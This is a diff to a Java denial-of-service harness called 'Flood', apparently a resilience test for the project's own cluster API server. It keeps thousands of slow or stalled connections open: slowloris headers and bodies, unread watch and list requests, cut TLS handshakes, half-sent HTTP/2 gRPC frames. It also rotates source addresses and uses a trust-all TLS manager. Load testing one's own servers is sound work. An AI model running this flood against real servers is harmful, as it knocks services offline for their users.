@@ -1,48 +1,43 @@
 package io.skiff.cluster;
 
-import java.io.ByteArrayInputStream;
-import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.net.InetSocketAddress;
 import java.net.Socket;
+import java.net.SocketTimeoutException;
 import java.nio.ByteBuffer;
-import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
-import java.security.GeneralSecurityException;
-import java.security.KeyFactory;
-import java.security.KeyStore;
-import java.security.SecureRandom;
-import java.security.cert.CertificateFactory;
-import java.security.cert.X509Certificate;
-import java.security.spec.PKCS8EncodedKeySpec;
-import java.util.Base64;
+import java.util.List;
 import java.util.Queue;
 import java.util.concurrent.ConcurrentLinkedQueue;
 import java.util.concurrent.Semaphore;
 import java.util.concurrent.atomic.AtomicInteger;
-import javax.net.ssl.KeyManagerFactory;
 import javax.net.ssl.SSLContext;
 import javax.net.ssl.SSLSocket;
-import javax.net.ssl.TrustManager;
-import javax.net.ssl.X509TrustManager;
 
 /**
  * A program that keeps thousands of hostile connections to a server, each of one sort, and opens new ones for those that are closed. Ends after
- * the given time. It is a client of its own, since it does what no client library can.
+ * the given time with its figures. It is a client of its own, since it does what no client library can.
  */
 final class Flood {
 
     private static final int OPENERS = 12;
-    private static final int MOST_OPENED_PER_SECOND = 400;
+    private static final int MOST_OPENED_PER_SECOND = 600;
+    private static final int TIMEOUT_MILLIS = 10_000;
+    private static final int DRIP_MILLIS = 500;
 
     private final Sort sort;
     private final InetSocketAddress server;
     private final int count;
     private final SSLContext tls;
+    /** Addresses of this host that connections come from in turn; empty for whichever. */
+    private final List<String> sources;
+
     private final Queue<Socket> open = new ConcurrentLinkedQueue<>();
     private final AtomicInteger opened = new AtomicInteger();
-    private final AtomicInteger inAll = new AtomicInteger();
+    private final AtomicInteger tried = new AtomicInteger();
+    private final AtomicInteger connected = new AtomicInteger();
+    private final AtomicInteger begun = new AtomicInteger();
     private final Semaphore pace = new Semaphore(0);
 
     enum Sort {
@@ -54,44 +49,61 @@ final class Flood {
         UNREAD_TABLES,
         UNFINISHED_MESSAGES,
         CUT_HANDSHAKES,
-        SILENT
+        SILENT;
+
+        /** With the certificate of a user. */
+        boolean isUsers() {
+            return name().startsWith("UNREAD") || this == USERS_SLOW_BODIES;
+        }
+
+        /** Ends before the handshake does. */
+        boolean isWithoutTls() {
+            return this == CUT_HANDSHAKES || this == SILENT;
+        }
     }
 
-    private Flood(Sort sort, InetSocketAddress server, int count, SSLContext tls) {
+    private Flood(Sort sort, InetSocketAddress server, int count, SSLContext tls, List<String> sources) {
         this.sort = sort;
         this.server = server;
         this.count = count;
         this.tls = tls;
+        this.sources = sources;
     }
 
-    /** SORT HOST PORT COUNT SECONDS KUBECONFIG. */
+    /** SORT HOST PORT COUNT SECONDS KUBECONFIG SOURCES, the last two {@code -} for none; sources with commas between them. */
     public static void main(String... arguments) throws Exception {
         var sort = Sort.valueOf(arguments[0]);
-        boolean asUser = sort.name().startsWith("UNREAD") || sort == Sort.USERS_SLOW_BODIES;
         var flood = new Flood(
                 sort,
                 new InetSocketAddress(arguments[1], Integer.parseInt(arguments[2])),
                 Integer.parseInt(arguments[3]),
-                tls(asUser ? Files.readString(Path.of(arguments[5])) : ""));
+                HostileTls.of(sort.isUsers() ? Files.readString(Path.of(arguments[5])) : ""),
+                arguments[6].equals("-") ? List.of() : List.of(arguments[6].split(",", -1)));
         flood.run(Integer.parseInt(arguments[4]));
     }
 
     private void run(int seconds) throws InterruptedException {
         for (int i = 0; i < OPENERS; i++) {
-            var opener = new Thread(this::keepOpening);
-            opener.setDaemon(true);
-            opener.start();
+            start(this::keepOpening);
         }
+        start(this::keepDripping);
         for (int tenth = 0; tenth < seconds * 10; tenth++) {
             pace.drainPermits();
             pace.release(MOST_OPENED_PER_SECOND / 10);
-            if (tenth % 50 == 49) {
-                drip();
-                System.out.println(sort + ": " + open.size() + " open, " + inAll + " opened in all");
-            }
             Thread.sleep(100);
         }
+        System.out.println(figures());
         Runtime.getRuntime().halt(0);
+    }
+
+    private FloodFigures figures() {
+        return new FloodFigures(tried.get(), connected.get(), begun.get());
+    }
+
+    private static void start(Runnable work) {
+        var thread = new Thread(work);
+        thread.setDaemon(true);
+        thread.start();
     }
 
     private void keepOpening() {
@@ -102,8 +114,7 @@ final class Flood {
                     opened.decrementAndGet();
                     continue;
                 }
-                inAll.incrementAndGet();
-                openOne();
+                openOne(tried.getAndIncrement());
             } catch (IOException | RuntimeException e) {
                 opened.decrementAndGet();
             } catch (InterruptedException e) {
@@ -112,12 +123,16 @@ final class Flood {
         }
     }
 
-    private void openOne() throws IOException, InterruptedException {
+    private void openOne(int number) throws IOException, InterruptedException {
         var plain = new Socket();
         try {
+            if (!sources.isEmpty()) {
+                plain.bind(new InetSocketAddress(sources.get(number % sources.size()), 0));
+            }
             plain.setReceiveBufferSize(8 << 10);
-            plain.setSoTimeout(10_000);
-            plain.connect(server, 10_000);
+            plain.setSoTimeout(TIMEOUT_MILLIS);
+            plain.connect(server, TIMEOUT_MILLIS);
+            connected.incrementAndGet();
             open.add(attack(plain));
         } catch (IOException | RuntimeException e) {
             plain.close();
@@ -126,135 +141,65 @@ final class Flood {
     }
 
     private Socket attack(Socket plain) throws IOException, InterruptedException {
-        switch (sort) {
-            case SILENT -> {
-                return plain;
-            }
-            case CUT_HANDSHAKES -> {
-                var engine = tls.createSSLEngine();
-                engine.setUseClientMode(true);
-                var hello = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
-                engine.wrap(ByteBuffer.allocate(0), hello);
-                plain.getOutputStream().write(hello.array(), 0, hello.position());
-                return plain;
-            }
-            default -> {
-                var socket = (SSLSocket)
-                        tls.getSocketFactory().createSocket(plain, server.getHostString(), server.getPort(), true);
-                if (sort == Sort.UNFINISHED_MESSAGES) {
-                    var parameters = socket.getSSLParameters();
-                    parameters.setApplicationProtocols(new String[] {"h2"});
-                    socket.setSSLParameters(parameters);
-                }
-                socket.startHandshake();
-                begin(socket);
-                return socket;
-            }
+        if (sort == Sort.CUT_HANDSHAKES) {
+            sayHello(plain);
         }
-    }
-
-    private void begin(SSLSocket socket) throws IOException, InterruptedException {
-        var out = socket.getOutputStream();
-        var start = switch (sort) {
-            case SLOW_HEADERS ->
-                lines("GET /version HTTP/1.1", "Host: x") + ("A: " + "x".repeat(990) + "\r\n").repeat(31);
-            case SLOW_BODIES, USERS_SLOW_BODIES ->
-                lines(
-                                "POST /api/v1/namespaces/default/configmaps HTTP/1.1",
-                                "Host: x",
-                                "Content-Type: application/json",
-                                "Content-Length: 3000000",
-                                "")
-                        + "x".repeat(sort == Sort.SLOW_BODIES ? 10 : 500_000);
-            case UNREAD_WATCHES ->
-                lines("GET /api/v1/configmaps?watch=1&allowWatchBookmarks=true HTTP/1.1", "Host: x", "");
-            case UNREAD_LISTS -> lines("GET /api/v1/configmaps HTTP/1.1", "Host: x", "");
-            case UNREAD_TABLES ->
-                lines(
-                        "GET /api/v1/configmaps?includeObject=Object HTTP/1.1",
-                        "Host: x",
-                        "Accept: application/json;as=Table;v=v1;g=meta.k8s.io",
-                        "");
-            default -> "";
-        };
-        out.write(start.getBytes(StandardCharsets.US_ASCII));
+        if (sort.isWithoutTls()) {
+            begun.incrementAndGet();
+            return plain;
+        }
+        var socket =
+                (SSLSocket) tls.getSocketFactory().createSocket(plain, server.getHostString(), server.getPort(), true);
         if (sort == Sort.UNFINISHED_MESSAGES) {
-            sendHalfOfAMessage(out);
+            var parameters = socket.getSSLParameters();
+            parameters.setApplicationProtocols(new String[] {"h2"});
+            socket.setSSLParameters(parameters);
         }
-        out.flush();
+        socket.startHandshake();
+        begun.incrementAndGet();
+        HostileBeginning.send(sort, socket.getOutputStream());
+        return socket;
     }
 
-    private static String lines(String... lines) {
-        return String.join("\r\n", lines) + "\r\n";
+    private void sayHello(Socket plain) throws IOException {
+        var engine = tls.createSSLEngine();
+        engine.setUseClientMode(true);
+        var hello = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
+        engine.wrap(ByteBuffer.allocate(0), hello);
+        plain.getOutputStream().write(hello.array(), 0, hello.position());
     }
 
-    /** A call of Join whose one message says that it is 4 MB long, and never is. */
-    private static void sendHalfOfAMessage(java.io.OutputStream out) throws IOException, InterruptedException {
-        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
-        frame(out, 4, 0, 0, new byte[0]);
-        var headers = new ByteArrayOutputStream();
-        for (var header : new String[][] {
-            {":method", "POST"},
-            {":scheme", "http"},
-            {":path", "/skiff.node.v1.NodeGateway/Join"},
-            {":authority", "x"},
-            {"content-type", "application/grpc"},
-            {"te", "trailers"}
-        }) {
-            headers.write(0);
-            for (var text : header) {
-                headers.write(text.length());
-                headers.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
+    private void keepDripping() {
+        try {
+            while (true) {
+                open.removeIf(socket -> !isOpenAfterADrop(socket));
+                Thread.sleep(DRIP_MILLIS);
             }
+        } catch (InterruptedException e) {
+            Thread.currentThread().interrupt();
         }
-        frame(out, 1, 4, 1, headers.toByteArray());
-        var first = new byte[16_000];
-        System.arraycopy(
-                ByteBuffer.allocate(5).put((byte) 0).putInt((4 << 20) - 100).array(), 0, first, 0, 5);
-        frame(out, 0, 0, 1, first);
-        for (int i = 0; i < 240; i++) {
-            frame(out, 0, 0, 1, new byte[16_000]);
-            if (i % 20 == 19) {
-                out.flush();
-                Thread.sleep(50);
-            }
-        }
-    }
-
-    private static void frame(java.io.OutputStream out, int type, int flags, int stream, byte[] payload)
-            throws IOException {
-        var head = ByteBuffer.allocate(9)
-                .put((byte) (payload.length >> 16))
-                .putShort((short) payload.length)
-                .put((byte) type)
-                .put((byte) flags)
-                .putInt(stream);
-        out.write(head.array());
-        out.write(payload);
     }
 
     /** A byte now and then, which also tells which connections are gone. */
-    private void drip() {
-        open.removeIf(socket -> {
-            try {
-                if (sort == Sort.SILENT || sort == Sort.CUT_HANDSHAKES) {
-                    socket.setSoTimeout(1);
-                    if (socket.getInputStream().read(new byte[4096]) < 0) {
-                        throw new IOException("closed");
-                    }
-                } else {
-                    socket.getOutputStream().write(sort.name().startsWith("UNREAD") ? '\n' : 'x');
-                    socket.getOutputStream().flush();
+    private boolean isOpenAfterADrop(Socket socket) {
+        try {
+            if (sort.isWithoutTls()) {
+                socket.setSoTimeout(1);
+                if (socket.getInputStream().read(new byte[4096]) < 0) {
+                    throw new IOException("closed");
                 }
-                return false;
-            } catch (java.net.SocketTimeoutException e) {
-                return false;
-            } catch (IOException e) {
-                closeQuietly(socket);
-                opened.decrementAndGet();
-                return true;
+            } else {
+                socket.getOutputStream().write(sort.name().startsWith("UNREAD") ? '\n' : 'x');
+                socket.getOutputStream().flush();
             }
-        });
+            return true;
+        } catch (SocketTimeoutException e) {
+            return true;
+        } catch (IOException e) {
+            closeQuietly(socket);
+            opened.decrementAndGet();
+            return false;
+        }
     }
 
     private static void closeQuietly(Socket socket) {
@@ -263,45 +208,5 @@ final class Flood {
         } catch (IOException e) {
             // It is gone.
         }
-    }
-
-    /** Trusts everybody: it does not come to be served. */
-    private static SSLContext tls(String kubeconfig) throws GeneralSecurityException, IOException {
-        var trustAll = new X509TrustManager() {
-            @Override
-            public void checkClientTrusted(X509Certificate[] chain, String type) {}
-
-            @Override
-            public void checkServerTrusted(X509Certificate[] chain, String type) {}
-
-            @Override
-            public X509Certificate[] getAcceptedIssuers() {
-                return new X509Certificate[0];
-            }
-        };
-        var context = SSLContext.getInstance("TLS");
-        var keys = kubeconfig.isEmpty() ? null : keys(kubeconfig).getKeyManagers();
-        context.init(keys, new TrustManager[] {trustAll}, new SecureRandom());
-        return context;
-    }
-
-    private static KeyManagerFactory keys(String kubeconfig) throws GeneralSecurityException, IOException {
-        var certificate = CertificateFactory.getInstance("X.509")
-                .generateCertificate(new ByteArrayInputStream(field(kubeconfig, "client-certificate-data")));
-        var pem = new String(field(kubeconfig, "client-key-data"), StandardCharsets.US_ASCII)
-                .replaceAll("-----[^-]*-----|\\s", "");
-        var key = KeyFactory.getInstance("EC")
-                .generatePrivate(new PKCS8EncodedKeySpec(Base64.getDecoder().decode(pem)));
-        var store = KeyStore.getInstance("PKCS12");
-        store.load(null, null);
-        store.setKeyEntry("user", key, new char[0], new java.security.cert.Certificate[] {certificate});
-        var factory = KeyManagerFactory.getInstance(KeyManagerFactory.getDefaultAlgorithm());
-        factory.init(store, new char[0]);
-        return factory;
-    }
-
-    private static byte[] field(String kubeconfig, String name) {
-        var text = kubeconfig.replaceAll("(?s).*" + name + ": *", "").replaceAll("(?s)\\s.*", "");
-        return Base64.getDecoder().decode(text);
     }
 }
